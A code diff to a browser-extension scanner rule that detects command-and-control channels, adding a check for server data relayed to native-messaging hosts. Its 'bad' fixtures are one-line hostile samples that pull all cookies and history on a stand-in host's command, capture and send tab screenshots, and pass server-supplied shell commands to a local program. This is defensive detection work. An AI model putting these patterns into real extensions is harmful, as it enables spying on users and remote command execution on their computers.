@@ -1,8 +1,8 @@
-import { apiPath, callsOf, GuardKind, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { apiPath, callsNamed, callsOf, GuardKind, receiverOf, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule, type Hit } from '../../rule.ts';
 import { backgroundExample, checkScripts, type Judged } from './checkScripts.ts';
 import { isFromServer, requestsOf } from './network.ts';
-import { originsOf } from './origins.ts';
+import { originPaths, originsOf } from './origins.ts';
 import { few, usageOf } from './usage.ts';
 
 /** Powers that nobody gives away to a server without meaning it. */
@@ -23,6 +23,9 @@ export const commandChannel = defineRule({
   check: checkScripts(function* (judged) {
     const { script, hit } = judged;
     const channels = callsOf(script, 'WebSocket', 'EventSource', 'io', 'io.connect', 'mqtt.connect', 'chrome.gcm.onMessage.addListener', 'chrome.instanceID.getToken');
+    for (const call of [...callsOf(script, 'chrome.runtime.sendNativeMessage'), ...few(callsNamed(script, 'postMessage')).filter((one) => isNative(script, one))]) {
+      if (call.args.some((arg) => isFromServer(script, arg))) yield hit(call.value, { severity: 'critical', message: 'What a server sends is handed to a program on the computer.' });
+    }
     yield* polled(judged, channels.length > 0);
     if (channels.length === 0) return;
     const handlers = handlersOf(script, new Set(channels.map((call) => call.value)));
@@ -48,8 +51,10 @@ export const commandChannel = defineRule({
       backgroundExample('const ws = new WebSocket(host); ws.addEventListener("message", (e) => run(JSON.parse(e.data))); function run(m) { if (m.type === "inject") chrome.scripting.executeScript({ target: { tabId: m.tab }, files: [m.file] }); if (m.type === "shot") chrome.tabs.captureVisibleTab((u) => ws.send(u)); }'),
       backgroundExample('setInterval(async () => { const t = await (await fetch("https://x.example/task")).json(); if (t.cmd === "cookies") report(await chrome.cookies.getAll({})); else if (t.cmd === "history") report(await chrome.history.search({ text: "" })); }, 3e4);'),
       backgroundExample('const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { chrome.tabs.create({ url: JSON.parse(e.data).url }); };'),
+      backgroundExample('const port = chrome.runtime.connectNative("com.example.host"); setInterval(async () => { const list = await fetch("https://x.example/cmd").then((r) => r.json()); list.forEach((c) => port.postMessage({ exec: c.shell })); }, 6e4);'),
     ],
     good: [
+      backgroundExample('const port = chrome.runtime.connectNative("com.example.host"); chrome.runtime.onMessage.addListener((m) => port.postMessage({ ask: m.site })); fetch("https://api.example.com/v").then((r) => r.json()).then((v) => chrome.action.setBadgeText({ text: v.n }));'),
       backgroundExample('async function sync() { const d = await (await fetch("https://api.example.com/s")).json(); if (d.status === "ok") chrome.action.setBadgeText({ text: d.count }); if (mode === "x") chrome.cookies.getAll({}, count); } setInterval(sync, 6e4);'),
       backgroundExample('const ws = new WebSocket("wss://chat.example.com"); ws.onmessage = (e) => { chrome.notifications.create({ type: "basic", title: "New", message: JSON.parse(e.data).text }); };'),
       backgroundExample('const ws = new WebSocket("ws://localhost:35729"); ws.onmessage = () => chrome.runtime.reload(); chrome.tabs.query({ active: true }, (t) => show(t)); chrome.cookies.getAll({}, count); chrome.history.search({ text: "" }, list);'),
@@ -113,4 +118,10 @@ function commandNames(script: ScriptFacts, ranges: readonly { start: number; end
     for (let n = 1; n <= (script.lists[list] as number); n++) names.add(script.lists[list + n] as number);
   }
   return names.size;
+}
+
+/** `port.postMessage(…)` on a port to a program on the computer. */
+function isNative(script: ScriptFacts, call: Call): boolean {
+  const port = receiverOf(script, call);
+  return apiPath(script, port) === 'chrome.runtime.connectNative()' || originPaths(script, port).has('chrome.runtime.connectNative');
 }
